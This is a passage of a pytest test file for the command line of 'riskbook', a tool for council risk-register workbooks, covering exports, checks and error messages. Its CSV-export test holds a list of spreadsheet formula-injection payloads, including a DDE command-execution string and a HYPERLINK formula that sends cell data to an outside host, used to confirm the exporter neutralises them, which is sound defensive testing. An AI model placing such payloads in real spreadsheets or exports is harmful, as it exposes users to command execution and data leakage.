"""The command line as scripts and officers meet it: output, exit codes, and bad input.

Every command that cannot work says one plain sentence and what to do, exits with 2, and
leaves each file and folder as it was.
"""

import csv
import errno
import io
import json
import os
import subprocess
import sys
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from click.testing import CliRunner, Result

from riskbook import __version__
from riskbook.cli import cli
from riskbook.core.checks import RULES
from riskbook.edge.disk import busy
from riskbook.edge.documents import profiles, registers
from riskbook.edge.documents.schema import REGISTER, problems
from riskbook.edge.making import made
from riskbook.edge.xlsx.package import Package
from tests.support import ROOT, sample

FINDING = ["code", "severity", "sheet", "cell", "field", "value", "message", "fix"]
DACORUM, BLACKPOOL = "dacorum-2021", "blackpool-2021"


def run(*args: object) -> Result:
    """A command in this process; a crash is a crash of the test."""
    found = CliRunner().invoke(cli, [str(arg) for arg in args])
    if found.exception is not None and not isinstance(found.exception, SystemExit):
        raise found.exception
    assert found.exit_code != 3, found.output  # riskbook itself failed
    return found


def workbook_of(document: Mapping[str, Any]) -> bytes:
    return made(profiles.load(document["profile"]), document)[0].data


@pytest.fixture(scope="module")
def workbooks() -> dict[str, bytes]:
    """The workbook of each sample, made once."""
    return {name: workbook_of(sample(name)) for name in registers.samples()}


@pytest.fixture
def place(
    tmp_path: Path, workbooks: Mapping[str, bytes], monkeypatch: pytest.MonkeyPatch
) -> Iterator[Path]:
    """A folder to be in, with the workbooks of two samples."""
    (tmp_path / "Register.xlsx").write_bytes(workbooks[DACORUM])
    (tmp_path / "Weighted.xlsx").write_bytes(workbooks[BLACKPOOL])
    monkeypatch.chdir(tmp_path)
    yield tmp_path
    for path in tmp_path.rglob("*"):
        path.chmod(0o755 if path.is_dir() else 0o644)


def everything(folder: Path) -> dict[str, tuple[bytes, int]]:
    """Every file of a folder with its bytes and its permissions; folders with none."""
    return {
        str(path.relative_to(folder)): (
            path.read_bytes() if path.is_file() else b"",
            path.stat().st_mode,
        )
        for path in sorted(folder.rglob("*"))
    }


# --- demo --------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def demonstrated(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    folder = tmp_path_factory.mktemp("demo") / "new" / "out"
    found = run("demo", folder)
    assert (found.exit_code, found.stderr) == (0, "")
    return folder, found.stdout


def block(printed: str, name: str) -> list[str]:
    """What the demonstration prints for one register, line by line."""
    return next(part for part in printed.split("\n\n") if f"{name}.xlsx" in part).splitlines()


@pytest.mark.parametrize("name", ["dacorum-2021", "dacorum-2017"])
def test_demo_prints_the_figures_of_dacorum(name: str, demonstrated: tuple[Path, str]) -> None:
    lines = [" ".join(line.split()) for line in block(demonstrated[1], name)]
    assert "register 8 risks" in lines
    assert any(line.startswith("gross 7 Red, 1 Amber; total 92 ") for line in lines)
    assert any(line.startswith("nett 7 Amber, 1 Green; total 60 ") for line in lines)


def test_demo_prints_the_blank_updates_of_2021(demonstrated: tuple[Path, str]) -> None:
    lines = block(demonstrated[1], "dacorum-2021")
    assert any("4 blank updates: " in line for line in lines)
    assert not any("blank updates" in line for line in block(demonstrated[1], "dacorum-2017"))


def test_demo_prints_the_figures_of_blackpool(demonstrated: tuple[Path, str]) -> None:
    lines = [" ".join(line.split()) for line in block(demonstrated[1], "blackpool-2021")]
    assert "as at 31 October 2021" in lines
    assert "register 1 risk in 4 sub-risks, 14 actions" in lines
    gross, nett = (next(x for x in lines if x.startswith(word)) for word in ("gross", "nett"))
    assert "overall 25.0 = 0.40 x 25 + 0.15 x 25 + 0.15 x 25 + 0.30 x 25" in gross
    assert "overall 18.5 = 0.40 x 20 + 0.15 x 15 + 0.15 x 15 + 0.30 x 20" in nett
    assert "3 past date, no status: F7, F8, F15" in lines


def test_demo_writes_what_it_says_and_nothing_else(demonstrated: tuple[Path, str]) -> None:
    folder, printed = demonstrated
    tables = {
        name: ["risks", "scores", "findings", "about", "controls"] for name in registers.samples()
    }
    tables[BLACKPOOL] += ["actions", "overall"]
    wanted = {f"{name}.{end}" for name in tables for end in ("xlsx", "json")}
    wanted |= {f"{name} report.{end}" for name in tables for end in ("pdf", "docx")}
    wanted |= {f"{name} values.xlsx" for name in tables}
    wanted |= {f"{name} {table}.csv" for name, listed in tables.items() for table in listed}
    assert {path.name for path in folder.iterdir()} == wanted
    assert all(str(folder / name) in printed for name in wanted)


def test_demo_twice_is_demo_once(demonstrated: tuple[Path, str]) -> None:
    folder, printed = demonstrated
    before = everything(folder)
    assert run("demo", folder).stdout == printed
    assert everything(folder) == before


def test_demo_needs_no_folder(place: Path) -> None:
    assert run("demo").exit_code == 0
    assert (place / "riskbook-demo" / "dacorum-2021.xlsx").is_file()


# --- new ---------------------------------------------------------------------------------


@pytest.mark.parametrize("profile", profiles.shipped())
def test_new_makes_a_blank_workbook_of_every_profile(profile: str, place: Path) -> None:
    found = run("new", profile, "New.xlsx", "--period", "2021/22 Q1", "--as-at", "2021-06-30")
    assert (found.exit_code, found.stderr) == (0, "")
    assert found.stdout.startswith("Made New.xlsx: 0 risks") or "0 sub-risks" in found.stdout
    assert run("check", "New.xlsx").exit_code == 0
    assert run("export", "New.xlsx", "--to", "json").exit_code == 0
    document = registers.load("New.json")
    assert document["profile"] == profile
    assert document["about"] == {"period": "2021/22 Q1", "as_at": "2021-06-30"}


def test_new_fills_a_workbook_and_says_what_is_in_it(place: Path) -> None:
    found = run("new", "operational-4x4", "New.xlsx", "--data", DACORUM)
    assert found.stdout == "Made New.xlsx: 8 risks; 0 errors, 4 warnings, 2 notes.\n"
    assert (place / "New.xlsx").read_bytes() == (place / "Register.xlsx").read_bytes()


def test_new_replaces_a_workbook_only_when_told_so(place: Path) -> None:
    before = everything(place)
    assert run("new", "council-5x5", "Register.xlsx").exit_code == 2
    assert everything(place) == before
    assert run("new", "council-5x5", "Register.xlsx", "--overwrite").exit_code == 0
    assert everything(place) != before


@pytest.mark.parametrize(
    ("command", "file"),
    [
        (("new", "council-5x5", "New.xlsx"), "New.xlsx"),
        (("new-period", "Register.xlsx", "New.xlsx", "--period", "2021/22 Q3"), "New.xlsx"),
        (("repair", "Register.xlsx", "New.xlsx"), "New.xlsx"),
        (("report", "Register.xlsx", "New.docx"), "New.docx"),
        (("demo", "."), "dacorum-2021.xlsx"),
    ],
)
def test_what_officers_may_have_typed_in_is_kept_when_it_is_replaced(
    command: tuple[str, ...], file: str, place: Path
) -> None:
    work = (place / "Weighted.xlsx").read_bytes()
    (place / file).write_bytes(work)
    more = () if command[0] == "demo" else ("--overwrite",)
    assert run(*command, *more).exit_code == 0
    assert (place / file).read_bytes() != work
    kept = (place / "riskbook backups").glob(f"{Path(file).stem} *{Path(file).suffix}")
    assert [each.read_bytes() for each in kept] == [work]


def test_new_says_the_period_and_day_in_place_of_the_register_s(place: Path) -> None:
    period = ("--period", "2021/22 Q2", "--as-at", "September 2021")
    assert run("new", "operational-4x4", "New.xlsx", "--data", DACORUM, *period).exit_code == 0
    assert run("export", "New.xlsx", "--to", "json").exit_code == 0
    about = registers.load("New.json")["about"]
    assert about == sample(DACORUM)["about"] | {"period": "2021/22 Q2", "as_at": "September 2021"}


# --- check -------------------------------------------------------------------------------


def test_check_prints_a_line_for_each_finding_and_a_sentence(place: Path) -> None:
    found = run("check", "Register.xlsx")
    assert found.exit_code == 0
    assert found.stderr == "Register.xlsx: 8 risks; 0 errors, 4 warnings, 2 notes.\n"
    lines = found.stdout.splitlines()
    assert len(lines) == 6
    assert lines[0].startswith("Risks!")
    assert all(": RB" in line and line.endswith("]") for line in lines)


def test_check_changes_nothing(place: Path) -> None:
    before = everything(place)
    assert run("check", "Register.xlsx", "Weighted.xlsx").exit_code == 0
    assert everything(place) == before


def test_check_exits_1_where_an_error_is_found(place: Path) -> None:
    document = sample(DACORUM)
    document["risks"][0]["gross_impact"] = 9
    (place / "Wrong.xlsx").write_bytes(workbook_of(document))
    found = run("check", "Wrong.xlsx")
    assert found.exit_code == 1
    assert "RB202 error: level 9 is off the 1..4 scale" in found.stdout


def test_check_as_json_prints_the_findings_and_nothing_else(place: Path) -> None:
    found = run("check", "Weighted.xlsx", "--json")
    assert (found.exit_code, found.stderr) == (0, "")
    findings = json.loads(found.stdout)
    assert [list(finding) for finding in findings] == [FINDING] * 6
    assert {finding["code"] for finding in findings} <= set(RULES)
    assert {finding["severity"] for finding in findings} == {"warning", "information"}
    assert all(isinstance(value, str) for finding in findings for value in finding.values())


def test_check_as_json_says_which_of_several_files(place: Path) -> None:
    found = run("check", "Register.xlsx", "Weighted.xlsx", "--json")
    findings = json.loads(found.stdout)
    assert [list(finding) for finding in findings] == [["file", *FINDING]] * 12
    assert {finding["file"] for finding in findings} == {"Register.xlsx", "Weighted.xlsx"}


def test_check_as_at_another_day_finds_other_dates_passed(place: Path) -> None:
    def passed(*args: str) -> list[str]:
        found = json.loads(run("check", "Weighted.xlsx", "--json", *args).stdout)
        return [finding["cell"] for finding in found if finding["code"] == "RB403"]

    assert passed() == ["F7", "F8", "F15"]
    assert passed("--as-at", "2021-05-01") == ["F8"]
    assert passed("--as-at", "30 April 2021") == []
    assert len(passed("--as-at", "April 2030")) == 14


def test_check_compares_the_template(place: Path) -> None:
    edited = edit(place / "Register.xlsx", "xl/workbook.xml", b"matrix_bands", b"matrix_bends")
    found = run("check", edited)
    assert found.exit_code == 1
    assert "Key!B27: RB908 error: the name matrix_bands is gone" in found.stdout


def test_a_workbook_is_compared_with_the_template_that_it_was_made_from(place: Path) -> None:
    document = profiles.document("operational-4x4") | {"id": "ours", "version": "1.2"}
    (place / "newer.json").write_text(json.dumps(document), encoding="utf-8")
    found = run("check", "Register.xlsx", "--profile", "newer.json")
    assert found.exit_code == 0
    assert "RB903 warning" in found.stdout
    assert "RB901" not in found.stdout


def test_check_takes_a_profile_in_a_file(place: Path) -> None:
    document = profiles.document("operational-4x4") | {"id": "ours", "rules": {"RB501": "error"}}
    (place / "own.json").write_text(json.dumps(document), encoding="utf-8")
    assert run("check", "Register.xlsx").exit_code == 0
    found = run("check", "Register.xlsx", "--profile", "own.json")
    assert found.exit_code == 1
    assert "made from the profile operational-4x4 1.1 and is read by ours 1.1." in found.stdout


def test_a_changed_copy_under_the_id_of_a_shipped_profile_is_refused(place: Path) -> None:
    document = profiles.document("operational-4x4") | {"rules": {"RB501": "error"}}
    (place / "own.json").write_text(json.dumps(document), encoding="utf-8")
    for command in (("new", "own.json", "New.xlsx"), ("profile", "check", "own.json")):
        found = run(*command)
        assert found.exit_code == 2
        assert "id: 'operational-4x4' comes with riskbook and says something else" in found.stderr
        assert "choose an id of your own" in found.stderr
    assert not (place / "New.xlsx").exists()


# --- refresh -----------------------------------------------------------------------------


def test_refresh_says_that_nothing_had_changed(place: Path) -> None:
    before = everything(place)
    found = run("refresh", "Register.xlsx")
    assert (found.exit_code, found.stderr) == (0, "")
    wanted = "Refreshed Register.xlsx: 8 risks; 0 errors, 4 warnings, 2 notes: see Checks"
    assert found.stdout == f"{wanted} (nothing had changed).\n"
    assert everything(place) == before


def test_refresh_keeps_the_file_that_it_replaces(place: Path) -> None:
    before = (place / "Register.xlsx").read_bytes()
    found = run("refresh", "Register.xlsx", "--as-at", "2030-01-01")
    backup = next((place / "riskbook backups").iterdir())
    assert backup.read_bytes() == before
    assert f"(backup: {backup.relative_to(place)})" in found.stdout.replace(f"{place}{os.sep}", "")
    assert (place / "Register.xlsx").read_bytes() != before


def test_refresh_as_json(place: Path) -> None:
    found = run("refresh", "Register.xlsx", "Weighted.xlsx", "--json", "--as-at", "2030-01-01")
    assert (found.exit_code, found.stderr) == (0, "")
    first, second = json.loads(found.stdout)
    assert list(first) == ["file", "backup", "as_at", "findings"]
    assert (first["file"], first["as_at"]) == ("Register.xlsx", "2030-01-01")
    assert Path(first["backup"]).is_file()
    assert [list(finding) for finding in second["findings"]] == [FINDING] * len(second["findings"])


def test_refresh_exits_1_where_an_error_is_found_and_refreshes_all_the_same(place: Path) -> None:
    document = sample(BLACKPOOL)
    document["risks"][0]["weight"] = "50%"
    (place / "Wrong.xlsx").write_bytes(workbook_of(document))
    found = run("refresh", "Wrong.xlsx", "--as-at", "2030-01-01")
    assert found.exit_code == 1
    assert found.stdout.startswith("Refreshed Wrong.xlsx: 1 risk in 4 sub-risks, 14 actions; 1 err")


# --- export ------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["Register", "Weighted"])
def test_export_as_json_follows_the_schema(name: str, place: Path) -> None:
    found = run("export", f"{name}.xlsx", "--to", "json")
    assert (found.exit_code, found.stdout) == (0, f"{name}.json\n")
    document = json.loads((place / f"{name}.json").read_text(encoding="utf-8"))
    assert problems(document, REGISTER) == []
    assert document["format"] == "riskbook-register/1"
    assert [list(finding) for finding in document["findings"]] == [FINDING] * 6


def test_export_as_json_has_entries_scores_and_the_overall(place: Path) -> None:
    assert run("export", "Weighted.xlsx", "--to", "json").exit_code == 0
    document = registers.load("Weighted.json")
    assert document["risks"][0]["weight"] == "40%"
    assert document["risks"][0]["scores"]["nett"] == {
        "likelihood": 4,
        "impact": 5,
        "points": 20,
        "band": "High",
    }
    assert document["overall"]["2"]["nett"] == {"points": 18.5, "band": "High"}


def table(path: Path) -> list[dict[str, str]]:
    """A CSV file as a program reads it."""
    text = path.read_bytes().decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_export_as_csv_has_a_table_for_each_kind_of_row(place: Path) -> None:
    found = run("export", "Weighted.xlsx", "--to", "csv")
    tables = ("risks", "actions", "scores", "overall", "findings", "about", "controls")
    names = [f"Weighted {name}.csv" for name in tables]
    assert found.exit_code == 0
    assert found.stdout.splitlines() == names
    assert [len(table(place / name)) for name in names[:5]] == [4, 14, 8, 2, 6]
    assert run("export", "Register.xlsx", "--to", "csv").exit_code == 0
    assert len(table(place / "Register risks.csv")) == 8
    assert not (place / "Register actions.csv").exists()


def test_export_as_csv_holds_the_entries_and_numbers(place: Path) -> None:
    assert run("export", "Register.xlsx", "--to", "csv").exit_code == 0
    risks = table(place / "Register risks.csv")
    first = sample(DACORUM)["risks"][0]
    assert risks[0]["title"] == first["title"]
    assert risks[0]["consequences"].lstrip("'") == first["consequences"]
    assert [risks[0][f"{stage}_points"] for stage in ("gross", "nett")] == ["12", "8"]
    assert sum(int(risk["gross_points"]) for risk in risks) == 92
    assert sum(int(risk["nett_points"]) for risk in risks) == 60


def test_export_as_csv_ends_its_lines_as_the_standard_says(place: Path) -> None:
    # RFC 4180, section 2: CRLF after each record
    assert run("export", "Weighted.xlsx", "--to", "csv").exit_code == 0
    data = (place / "Weighted overall.csv").read_bytes()
    assert data == b"ref,stage,points,band\r\n2,gross,25,High\r\n2,nett,18.5,High\r\n"


def test_export_begins_with_a_mark_for_excel_when_asked(place: Path) -> None:
    assert run("export", "Weighted.xlsx", "plain", "--to", "csv").exit_code == 0
    assert run("export", "Weighted.xlsx", "marked", "--to", "csv", "--bom").exit_code == 0
    for path in (place / "plain").iterdir():
        assert (place / "marked" / path.name).read_bytes() == b"\xef\xbb\xbf" + path.read_bytes()


PAYLOADS = (
    "=1+1",
    "+44 1253 477477",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    '=HYPERLINK("http://example.org?x="&A1,"Click")',
    "=cmd|'/C calc'!A0",
    "-",
    "'=1+1",  # alive once it is copied: a spreadsheet takes the first apostrophe away
    "' =1",
)
HARMLESS = ("A = B", "1-2", "risk@example.org", "40%", "(=1)", "'quoted'")


def test_no_text_of_an_export_is_calculated(place: Path) -> None:
    document = sample(DACORUM)
    texts = (*PAYLOADS, *HARMLESS)
    document["risks"] = [{"ref": f"R{n}", "title": text} for n, text in enumerate(texts)]
    document["risks"][0]["owner"] = "=1+1, @SUM(A1)"
    (place / "Live.xlsx").write_bytes(workbook_of(document))
    assert run("export", "Live.xlsx", "--to", "csv").exit_code == 0
    risks = table(place / "Live risks.csv")
    assert [risk["title"] for risk in risks] == [*("'" + text for text in PAYLOADS), *HARMLESS]
    assert risks[0]["owner"] == "'=1+1, @SUM(A1)"
    for name in ("risks", "findings"):
        for line in table(place / f"Live {name}.csv"):
            assert not any(live(value) for value in line.values())
    # in JSON nothing calculates, so a text stays what it is
    assert run("export", "Live.xlsx", "--to", "json").exit_code == 0
    assert [risk["title"] for risk in registers.load("Live.json")["risks"]] == list(texts)


def live(text: str) -> bool:
    """Whether a spreadsheet could calculate a field: OWASP's list, and full-width forms."""
    seen = text.lstrip(" \u00a0\u200b\ufeff")
    return seen[:1] in tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20") and not number(seen)


def number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_negative_numbers_of_an_export_stay_numbers(place: Path) -> None:
    document = sample(BLACKPOOL)
    document["risks"][0] |= {"prior_gross": -5, "prior_nett": -2.5}
    document["risks"][1]["prior_gross"] = "-5"
    document["risks"][2]["prior_gross"] = "-5 or so"
    (place / "Negative.xlsx").write_bytes(workbook_of(document))
    assert run("export", "Negative.xlsx", "--to", "csv").exit_code == 0
    first, second, third, *_ = table(place / "Negative risks.csv")
    assert (first["prior_gross"], first["prior_nett"]) == ("-5", "-2.5")
    assert second["prior_gross"] == "-5"  # typed as a text, and a number none the less
    assert third["prior_gross"] == "'-5 or so"


# --- profiles ----------------------------------------------------------------------------


def test_profile_list(place: Path) -> None:
    found = run("profile", "list")
    assert found.exit_code == 0
    assert [line.split()[0] for line in found.stdout.splitlines()] == list(profiles.shipped())


def test_profile_list_as_json(place: Path) -> None:
    shipped = json.loads(run("profile", "list", "--json").stdout)
    assert [profile["id"] for profile in shipped] == list(profiles.shipped())
    assert all(list(p) == ["id", "version", "title", "description"] for p in shipped)


@pytest.mark.parametrize("name", profiles.shipped())
def test_profile_show_prints_what_can_be_given_back(name: str, place: Path) -> None:
    found = run("profile", "show", name)
    assert found.exit_code == 0
    (place / "copy.json").write_text(found.stdout, encoding="utf-8")
    assert profiles.load("copy.json") == profiles.load(name)


def test_profile_show_prints_the_schema_of_each_entry(place: Path) -> None:
    found = json.loads(run("profile", "show", "strategic-weighted-5x5", "--schema").stdout)
    assert list(found) == ["Risks", "Actions"]
    assert found["Risks"]["gross_impact"] == {"type": "integer", "minimum": 1, "maximum": 5}
    assert "gross_points" not in found["Risks"]


@pytest.mark.parametrize("name", profiles.shipped())
def test_profile_check_finds_no_error_in_a_shipped_profile(name: str) -> None:
    found = run("profile", "check", name)
    assert found.exit_code == 0
    remarks = json.loads(run("profile", "check", name, "--json").stdout)
    assert found.stderr == f"{name}: {len(remarks)} remark(s).\n"
    assert len(found.stdout.splitlines()) == len(remarks)
    assert all(list(remark) == ["severity", "where", "message", "fix"] for remark in remarks)


def test_profile_check_exits_1_where_ratings_come_out_wrong(place: Path) -> None:
    document = profiles.document("operational-4x4")
    document["id"], document["bands"][-1]["most"] = "ours", 13
    (place / "own.json").write_text(json.dumps(document), encoding="utf-8")
    found = run("profile", "check", "own.json")
    assert found.exit_code == 1
    assert "error: ratings come to 16, above the band's 13" in found.stdout


# --- what cannot be worked on ------------------------------------------------------------


def edit(path: Path, part: str, old: bytes, new: bytes) -> Path:
    """A copy of a workbook in which one part says something else."""
    package = Package.parse(path.read_bytes())
    content = package.part(part)
    assert content.count(old) == 1
    copy = path.with_name("Edited.xlsx")
    copy.write_bytes(package.replaced({part: content.replace(old, new)}))
    return copy


def written(name: str, data: bytes) -> Callable[[Path], Path]:
    def write(place: Path) -> Path:
        (place / name).write_bytes(data)
        return place / name

    return write


def in_workbook(old: bytes, new: bytes) -> Callable[[Path], Path]:
    return lambda place: edit(place / "Register.xlsx", "xl/workbook.xml", old, new)


def in_texts(old: bytes, new: bytes) -> Callable[[Path], Path]:
    return lambda place: edit(place / "Register.xlsx", "xl/sharedStrings.xml", old, new)


def a_folder(place: Path) -> Path:
    (place / "Folder.xlsx").mkdir()
    return place / "Folder.xlsx"


def foreign(place: Path) -> Path:
    book = openpyxl.Workbook()
    assert book.active
    book.active.append(["Ref", "Risk"])
    book.save(place / "Foreign.xlsx")
    book.close()
    return place / "Foreign.xlsx"


OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
ENCRYPTED = OLE2 + "EncryptedPackage\0".encode("utf-16-le") + bytes(2_000)

# What the file is -> what is said about it, and what is to be done.
BAD: dict[str, tuple[Callable[[Path], Path], str, str]] = {
    "no such file": (
        lambda place: place / "Regster.xlsx",
        "There is no file Regster.xlsx.",
        "check the name and the folder",
    ),
    "below a file": (
        lambda place: place / "Register.xlsx" / "Register.xlsx",
        "There is no file Register.xlsx.",
        "check the name and the folder",
    ),
    "a folder": (a_folder, "Folder.xlsx is a folder.", "choose a workbook in it"),
    "the folder itself": (lambda _: Path("."), ". is a folder.", "choose a workbook in it"),
    "empty": (written("Empty.xlsx", b""), "Empty.xlsx is empty.", "take the latest backup"),
    "text": (
        written("Text.xlsx", b"The register is on the other drive.\n"),
        "Text.xlsx is a text file, not a workbook.",
        "choose the register's workbook",
    ),
    "csv": (
        written("List.csv", b"Ref,Risk\r\nR1,Flood\r\n"),
        "List.csv is a text file with values between commas (CSV), not a workbook.",
        "choose File > Save As > Excel Workbook (.xlsx)",
    ),
    "pdf": (written("Report.pdf", b"%PDF-1.7\n"), "Report.pdf is a PDF.", "ask for the workbook"),
    "encrypted": (
        written("Secret.xlsx", ENCRYPTED),
        "Secret.xlsx is locked with a password.",
        "remove the password",
    ),
    "old Excel": (
        written("Old.xls", OLE2 + "Workbook\0".encode("utf-16-le") + bytes(2_000)),
        "Old.xls is in the old Excel format (.xls).",
        "Excel Workbook (.xlsx)",
    ),
    "half a file": (
        lambda place: written("Half.xlsx", (place / "Register.xlsx").read_bytes()[:20_000])(place),
        "Half.xlsx is damaged",
        "",
    ),
    "foreign": (
        foreign,
        "'Foreign.xlsx' was not made by riskbook: no About sheet names its profile "
        "(its sheets: Sheet).",
        "make a workbook with `riskbook new`",
    ),
    "mark of Excel": (
        written("~$Register.xlsx", b"\x06Sandra"),
        "~$Register.xlsx is only the mark that somebody has the workbook open.",
        "choose the workbook itself",
    ),
    "unknown profile": (
        in_texts(b">operational-4x4<", b">operational-7x7<"),
        "Edited.xlsx was made from the profile 'operational-7x7', which does not come with "
        "riskbook.",
        "give that profile's own file: --profile FILE.json",
    ),
    "profile that is a path": (
        in_texts(b">operational-4x4<", b">own.json<"),
        "Edited.xlsx was made from the profile 'own.json', which does not come with riskbook.",
        "give that profile's own file",
    ),
    "no profile": (
        in_texts(b">operational-4x4<", b">  <"),
        "'Edited.xlsx' was not made by riskbook: no About sheet names its profile",
        "make a workbook with `riskbook new`",
    ),
    "no About": (
        in_workbook(b'name="About"', b'name="Abuot"'),
        "'Edited.xlsx' was not made by riskbook: no About sheet names its profile "
        "(its sheets: Abuot, Summary, Heat map, By group, Risks, Checks, ...).",
        "make a workbook with `riskbook new`",
    ),
    "no Risks": (
        in_workbook(b'name="Risks"', b'name="Risk register"'),
        "'Edited.xlsx' has no sheet 'Risks'; it has: About, Summary, Heat map, By group, "
        "Risk register, Checks, Risk pages, Key, Lists.",
        "rename 'Risk register' back to 'Risks'",
    ),
    "Risks in capitals": (
        in_workbook(b'name="Risks"', b'name="RISKS"'),
        "'Edited.xlsx' has no sheet 'Risks'; it has: About, Summary, Heat map, By group, RISKS, "
        "Checks, Risk pages, Key, Lists.",
        "rename 'RISKS' back to 'Risks'",
    ),
    "no Summary": (
        in_workbook(b'name="Summary"', b'name="Overview"'),
        "'Edited.xlsx' has no sheet 'Summary'; it has: About, Overview, Heat map, By group, Risks",
        "restore a backup, or copy the entries into a new workbook made by `riskbook new`",
    ),
    "no heading": (
        in_texts(b">Risk Owner<", b">Lead<"),
        "The sheet 'Risks' has no column headed 'Risk Owner'.",
        "change the heading 'Lead' back to 'Risk Owner'",
    ),
}


def assert_polite(found: Result, sentence: str, fix: str) -> None:
    """One sentence, what to do, and exit code 2."""
    assert found.exit_code == 2
    assert found.stdout == ""
    what, _, todo = found.stderr.partition("\n  To fix: ")
    assert what.startswith(f"riskbook: {sentence}")
    assert what.endswith(".")
    assert "\n" not in what
    assert fix in todo
    assert todo.endswith(".\n")
    assert "Traceback" not in found.output


@pytest.mark.parametrize("command", ["check", "refresh", "export"])
@pytest.mark.parametrize("case", BAD)
def test_a_file_that_cannot_be_worked_on(case: str, command: str, place: Path) -> None:
    make, sentence, fix = BAD[case]
    profile = json.dumps(profiles.document("operational-4x4"))
    (place / "own.json").write_text(profile, encoding="utf-8")
    path = make(place)
    before = everything(place)
    options = ("--to", "json") if command == "export" else ()
    assert_polite(run(command, path, *options), sentence, fix)
    assert everything(place) == before


@pytest.mark.parametrize("case", ["no such file", "foreign", "no heading"])
def test_in_a_process_of_its_own(case: str, place: Path) -> None:
    make, sentence, fix = BAD[case]
    found = spawned("check", make(place))
    assert (found.returncode, found.stdout) == (2, "")
    assert found.stderr.startswith(f"riskbook: {sentence}")
    assert f"To fix: {fix}" in found.stderr
    assert "Traceback" not in found.stderr


def spawned(*args: object) -> "subprocess.CompletedProcess[str]":
    return subprocess.run(
        [sys.executable, "-W", "error", "-m", "riskbook", *map(str, args)],
        capture_output=True,
        encoding="utf-8",
        env={**os.environ, "PYTHONPATH": str(ROOT), "PYTHONUTF8": "1"},
        timeout=120,
        check=False,
    )


def test_commands_in_a_process_of_their_own(place: Path) -> None:
    assert spawned("--version").stdout == f"riskbook, version {__version__}\n"
    new = spawned("new", "operational-4x4", "New.xlsx", "--data", DACORUM)
    assert (new.returncode, new.stderr) == (0, "")
    assert (place / "New.xlsx").read_bytes() == (place / "Register.xlsx").read_bytes()
    check = spawned("check", "New.xlsx", "--json")
    assert check.returncode == 0
    assert len(json.loads(check.stdout)) == 6
    assert "nothing had changed" in spawned("refresh", "New.xlsx").stdout
    csvs = spawned("export", "New.xlsx", "--to", "csv")
    assert (csvs.returncode, csvs.stderr) == (0, "")
    assert "Usage" in spawned("check").stderr  # click's own words for a slip on the command line
    assert spawned("check").returncode == 2


OTHER = "strategic-weighted-5x5"


@pytest.mark.parametrize(
    ("file", "profile", "why"),
    [
        ("Register.xlsx", OTHER, "'Register.xlsx' has no sheet 'Actions'"),
        ("Register.xlsx", "operational-4x4-signoff", "the sheet 'Risks' has no column headed "),
        ("Weighted.xlsx", "operational-4x4", "the sheet 'Risks' has no column headed "),
    ],
)
def test_the_profile_of_another_workbook(file: str, profile: str, why: str, place: Path) -> None:
    before = everything(place)
    own = "operational-4x4" if file == "Register.xlsx" else OTHER
    found = run("refresh", file, "--profile", profile)
    sentence = f"{file!r} was made from the profile {own!r} and does not fit {profile!r}: {why}"
    assert_polite(found, sentence, f"read it by its own profile, {own!r}.")
    assert everything(place) == before


def test_a_foreign_workbook_is_foreign_under_any_profile(place: Path) -> None:
    found = run("check", foreign(place), "--profile", "operational-4x4")
    assert_polite(found, *BAD["foreign"][1:])


# What was asked for -> what is said about it, and what is to be done.
ASKED: dict[str, tuple[tuple[str, ...], str, str]] = {
    "as at nonsense": (
        ("check", "Register.xlsx", "--as-at", "last Tuesday"),
        "'last Tuesday' is not a date.",
        "Give a day such as 2021-10-31",
    ),
    "as at no day of the calendar": (
        ("refresh", "Register.xlsx", "--as-at", "2021-02-30"),
        "'2021-02-30' is not a date.",
        "Give a day",
    ),
    "new as at nonsense": (
        ("new", "council-5x5", "New.xlsx", "--as-at", "soon"),
        "'soon' is not a date.",
        "Give a day",
    ),
    "unknown profile": (
        ("new", "council", "New.xlsx"),
        "There is no profile and no file called 'council'; did you mean 'council-5x5'",
        "Choose one of council-5x5, operational-4x4, ",
    ),
    "unknown profile of a check": (
        ("check", "Register.xlsx", "--profile", "operational4x4"),
        "There is no profile and no file called 'operational4x4'; did you mean 'operational-4x4'",
        "Choose one of",
    ),
    "unknown profile to show": (
        ("profile", "show", "strategic"),
        "There is no profile and no file called 'strategic'",
        "Choose one of",
    ),
    "profile that is no JSON": (
        ("profile", "check", "broken.json"),
        "The profile 'broken.json' is not JSON: line 2, column 1",
        "Correct it there",
    ),
    "unknown register": (
        ("new", "council-5x5", "New.xlsx", "--data", "dacorum"),
        "There is no register and no file called 'dacorum'; did you mean 'dacorum-20",
        "Choose one of blackpool-2021, ",
    ),
    "register that is no JSON": (
        ("new", "council-5x5", "New.xlsx", "--data", "broken.json"),
        "The register 'broken.json' is not JSON: line 2, column 1",
        "Correct it there",
    ),
    "register of another profile": (
        ("new", "operational-4x4", "New.xlsx", "--data", BLACKPOOL),
        "Risks, record 1: the profile operational-4x4 has no column for opportunities, ",
        "Choose the profile that the register is of, 'strategic-weighted-5x5', or add",
    ),
    "new onto a file": (
        ("new", "council-5x5", "Register.xlsx"),
        "There is a file Register.xlsx already.",
        "choose another name",
    ),
    "new into no folder": (
        ("new", "council-5x5", "nowhere/New.xlsx"),
        "New.xlsx could not be saved: its folder or the file is not there.",
        "check the name",
    ),
    "new below a file": (
        ("new", "council-5x5", "Register.xlsx/New.xlsx"),
        "New.xlsx could not be saved: its folder or the file is not there.",
        "check the name",
    ),
    "new onto a folder": (
        ("new", "council-5x5", "folder.xlsx", "--overwrite"),
        "folder.xlsx is a folder.",
        "name a file",
    ),
    "new under a name that Excel does not open": (
        ("new", "council-5x5", "New.xls"),
        "New.xls does not end in .xlsx or .xlsm",
        "name it New.xlsx",
    ),
    "demo into a file": (
        ("demo", "Register.xlsx"),
        "Register.xlsx is a file, not a folder.",
        "name another folder",
    ),
    "demo below a file": (
        ("demo", "Register.xlsx/out"),
        "out could not be saved: its folder or the file is not there.",
